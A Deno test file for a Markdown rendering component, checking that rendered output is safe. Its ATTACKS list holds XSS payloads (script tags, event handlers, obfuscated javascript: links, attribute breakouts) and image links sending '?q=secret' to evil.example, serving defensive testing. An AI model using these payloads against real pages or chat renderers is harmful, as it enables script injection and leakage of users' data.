import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { renderToString } from "preact-render-to-string";
import { decode } from "@/components/markdown/entities.ts";
import { safeUrl } from "@/components/markdown/href.ts";
import { Markdown } from "@/components/markdown/Markdown.tsx";
import { amend } from "@/components/markdown/text.ts";

const html = (text: string, streaming = false) =>
  renderToString(<Markdown text={text} streaming={streaming} />);

Deno.test("what a model writes becomes elements", () => {
  const cases: [string, string][] = [
    ["# A", '<h3 dir="auto">A</h3>'],
    ["**a** *b* ~~c~~ `d`", "<strong>a</strong> <em>b</em> <del>c</del> <code>d</code>"],
    ["- a\n- b", '<ul dir="auto"><li>a</li>'],
    ["3. a\n4. b", '<ol dir="auto" start="3">'],
    ["- [x] done", 'type="checkbox" checked disabled aria-label="Done"'],
    ["| a |\n| -: |\n| 1 |", '<td dir="auto" data-align="right">1</td>'],
    ["```ts\nlet a;\n```", '<code data-language="ts">let a;</code>'],
    ["> q", '<blockquote dir="auto"><p>q</p></blockquote>'],
    ["| a |\n| - |\n| 1<br>2<BR/>3 |", "1<br/>2<br/>3"],
    ["<b>1</b>", "&lt;b>1&lt;/b>"],
    ["<!-- a -->\n\nb", '<p class="raw" dir="auto">&lt;!-- a --'],
    ["a  \nb", "a<br/>b"],
    ["---", "<hr/>"],
    ["https://example.com/a", 'href="https://example.com/a"'],
    ["\\( x \\)", '<span class="formula" data-formula="source" dir="ltr"><code>x</code></span>'],
    ["a &lt;b&gt; &amp; &copy; &#65;", "a &lt;b> &amp; © A"],
  ];
  for (const [source, expected] of cases) assertStringIncludes(html(source), expected, source);
});

/** Attempts at running code, at leaving the page or at telling another host that a message was read. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe src=https://evil.example></iframe>",
  "<style>body{background:url(https://evil.example)}</style>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/logout)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/?q=secret)",
  "![x][e]\n\n[e]: https://evil.example/?q=secret",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '[x](https://a.example/" onclick="alert(1))',
  '![" onerror="alert(1)](https://a.example/)',
  '```"><script>alert(1)</script>\nx\n```',
  "| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |",
  "[x]: javascript:alert(1)\n\n[x]",
];

Deno.test("R7, R8: no attack makes an element or an address of its own", () => {
  const allowed = new Set(
    "p h3 h4 h5 h6 strong em del code pre br hr a ul ol li input blockquote div table thead tbody tr th td figure figcaption button span svg rect path"
      .split(" "),
  );
  for (const source of ATTACKS) {
    for (const streaming of [false, true]) {
      const rendered = html(source, streaming);
      for (
        const [, name, attributes] of rendered.matchAll(
          /<([a-z0-9]+)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/g,
        )
      ) {
        assert(allowed.has(name!), `${source} makes <${name}>`);
        for (const [, attribute, value] of attributes!.matchAll(/\s([^\s=>"]+)(?:="([^"]*)")?/g)) {
          assert(!/^on|^src|^style$|^srcset$/i.test(attribute!), `${source} makes ${attribute}`);
          if (attribute === "href") assert(/^(https?|mailto):/.test(value!), `${source} leads to ${value}`);
        }
      }
    }
  }
});

Deno.test("R8: a remote image is a link that names its host, and nothing that loads", () => {
  const rendered = html("![a cat](https://evil.example/cat.png?q=secret)");
  assert(!rendered.includes("<img"));
  assertStringIncludes(rendered, "Open image: a cat (evil.example, new tab)");
  assertStringIncludes(rendered, 'rel="noopener noreferrer nofollow"');
});

Deno.test("links lead to the web and to letters, nowhere else", () => {
  for (const good of ["https://a.example/", "http://a.example/x?y", "mailto:a@b.example"]) {
    assertEquals(safeUrl(good)?.href, good);
  }
  for (
    const bad of [
      "javascript:alert(1)",
      "data:,x",
      "/x",
      "x",
      "//a",
      "",
      "blob:https://a/b",
      "ftp://a.example/",
    ]
  ) {
    assertEquals(safeUrl(bad), null, bad);
  }
});

Deno.test("nesting beyond any reader's patience is shown as source, and renders", () => {
  const deep = html("> ".repeat(200) + "x");
  assert(deep.split("<blockquote").length < 30);
  assertStringIncludes(deep, "> > > ");
  html("*a ".repeat(500) + "*".repeat(500));
  html(Array.from({ length: 100 }, (_, i) => "  ".repeat(i) + "- x").join("\n"));
});

Deno.test("character references are read once; unknown and impossible ones are harmless", () => {
  assertEquals(
    decode("&amp;lt; &bogus; &#0; &#xD800; &#x110000; &#x1F600;"),
    "&lt; &bogus; \ufffd \ufffd \ufffd 😀",
  );
});

Deno.test("R13: a run of text changes by its smallest difference, so that a selection in it survives", () => {
  const edits: string[] = [];
  const node = {
    data: "",
    appendData(more: string) {
      edits.push(`append ${more}`);
      this.data += more;
    },
    replaceData(at: number, count: number, by: string) {
      edits.push(`replace ${at} ${count} ${by}`);
      this.data = this.data.slice(0, at) + by + this.data.slice(at + count);
    },
  };
  // Only what `amend` uses of a text node.
  const amended = (text: string) => (amend(node as unknown as CharacterData, text), node.data);
  assertEquals([
    amended("Hello"),
    amended("Hello wor"),
    amended("Hello world"),
    amended("Hello, you"),
    amended("Hello, you"),
  ], [
    "Hello",
    "Hello wor",
    "Hello world",
    "Hello, you",
    "Hello, you",
  ]);
  assertEquals(edits, ["append Hello", "append  wor", "append ld", "replace 5 6 , you"]);
});
